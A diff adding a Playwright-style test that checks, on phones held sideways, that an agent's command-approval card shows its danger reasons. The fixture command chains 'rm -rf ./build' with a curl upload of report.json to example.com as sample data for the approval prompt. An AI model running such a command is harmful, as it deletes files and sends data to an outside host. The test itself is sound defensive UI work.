@@ -312,6 +312,45 @@ describe.skipIf(!browser)("an agent's question", () => {
       await expect.poll(() => new URL(ana.page.url()).pathname, poll).toBe("/w/fake");
     });
 
+    test("W16 on a phone on its side the reasons are in sight beside the answers", async () => {
+      const reasons = ["rm -rf deletes a folder and all in it", "curl sends data to example.com"];
+      const wish: Partial<Approval> = {
+        verdict: "dangerous",
+        rule: "npm run …",
+        command: "rm -rf ./build && curl -d @report.json https://example.com/upload",
+        why: reasons,
+        offers: ["once", "session", "prefix", "deny"],
+      };
+      for (const [width, height] of [
+        [844, 390],
+        [667, 375],
+      ] as const) {
+        await arrive({ viewport: { width, height }, hasTouch: true, isMobile: true });
+        ask(approval(wish), approval({ id: "ap-2", askedAt: 2 }));
+        await ready();
+        const [body, allow] = await Promise.all(
+          [card().locator(".question-body"), button("Allow once")].map((one) =>
+            one.evaluate((element) => element.getBoundingClientRect().toJSON()),
+          ),
+        );
+        for (const reason of reasons) {
+          const box = await card()
+            .getByText(reason)
+            .evaluate((element) => element.getBoundingClientRect().toJSON());
+          expect(box.bottom, `${reason} at ${width}`).toBeLessThanOrEqual(
+            Math.min(body.bottom, height),
+          );
+          expect(box.top).toBeGreaterThanOrEqual(Math.max(body.top, 0));
+        }
+        expect([allow.bottom <= height, allow.height >= 40]).toEqual([true, true]);
+        expect(ana.faults).toEqual([]);
+        if (width !== 667) {
+          await ana.leave();
+          room.close();
+        }
+      }
+    });
+
     test("W30 on a phone the card is a dock that a thumb answers, and can be folded away", async () => {
       const height = 844;
       await arrive({ viewport: { width: 390, height }, hasTouch: true, isMobile: true });
